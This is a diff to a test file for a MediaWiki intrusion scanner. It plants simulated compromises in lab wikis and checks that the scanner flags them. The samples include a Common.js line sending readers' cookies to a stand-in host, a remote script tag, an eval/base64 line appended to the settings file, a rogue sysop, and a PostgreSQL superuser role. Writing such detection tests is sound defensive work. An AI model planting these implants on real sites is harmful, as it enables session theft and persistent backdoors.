@@ -33,6 +33,14 @@ EXPECTED = {
     (SETTINGS, "config.changed", "high"),
 }
 
+# MariaDB's own server is tried in test_implants.py.
+SERVER = """CREATE ROLE khach SUPERUSER LOGIN;
+CREATE FUNCTION mediawiki.thong_ke() RETURNS int LANGUAGE sql AS 'SELECT 1';"""
+EXPECTED_OF_SERVER = {
+    ("user postgresql role khach", "database.user", "high"),
+    ("routine postgresql function mediawiki.thong_ke()", "database.code", "high"),
+}
+
 
 @pytest.fixture(scope="module", params=["postgresql", "mariadb"])
 def wiki(
@@ -55,13 +63,12 @@ def wiki(
 
 def test_a_stock_site_has_nothing_to_accept(wiki: tuple[Lab, Ungcuu, str]) -> None:
     """What a person has to accept on the first day is accepted on every other day too; what is not read is said."""
-    lab, ungcuu, engine = wiki
+    lab, ungcuu, _engine = wiki
     edit(lab, "Thong bao", "Trang mới của biên tập viên.")
     code, document, said = ungcuu("scan", HOST)
     assert (code, document["findings"]) == (0, []), said
-    unread = document["scans"][0]["checked"]["application"]["unread"]
-    assert unread == ({} if engine == "mariadb" else {"server": ["engine"]})
-    assert ("not looked at" in said) is bool(unread)
+    assert document["scans"][0]["checked"]["application"]["unread"] == {}
+    assert "not looked at" not in said
     kept = json.loads(Path(os.environ["UNGCUU_STATE"], f"hosts/{HOST}/baseline.json").read_text("utf-8"))
     assert {row["name"] for row in kept["rows"]["database"] if row["set"] == "administrator"} == {
         "Quantri sysop",
@@ -72,16 +79,19 @@ def test_a_stock_site_has_nothing_to_accept(wiki: tuple[Lab, Ungcuu, str]) -> No
 
 def test_what_an_intruder_adds_is_found(wiki: tuple[Lab, Ungcuu, str]) -> None:
     """An administrator, a bot password, code for every reader's browser, and links that only search engines see."""
-    lab, ungcuu, _engine = wiki
+    lab, ungcuu, engine = wiki
     maintain(lab, "createAndPromote.php --sysop --custom-groups interface-admin Khach 'another-Long-word-7'")
     maintain(lab, "createBotPassword.php --appid tool --grants basic Quantri 'abcdefghijklmnopqrstuvwxyz012345'")
     edit(lab, "MediaWiki:Common.js", "fetch('//x.test/' + document.cookie);")
     edit(lab, "Tin tuc", "Một trang. <script src=//x.test/a.js></script>")
     edit(lab, "Gioi thieu", HIDDEN)
     run(lab, f"echo \"eval(base64_decode('ZWNobyAxOw=='));\" >> {SETTINGS}")
+    if engine == "postgresql":
+        run(lab, "cd /; runuser -u postgres -- psql -qX -d wiki", SERVER)
     code, document, said = ungcuu("scan", HOST)
     assert code == 13, said
-    assert {(row["path"], row["rule"], row["severity"]) for row in document["findings"]} == EXPECTED
+    expected = EXPECTED | (EXPECTED_OF_SERVER if engine == "postgresql" else set())
+    assert {(row["path"], row["rule"], row["severity"]) for row in document["findings"]} == expected
 
 
 def test_a_table_that_is_gone_is_no_silence(wiki: tuple[Lab, Ungcuu, str]) -> None:
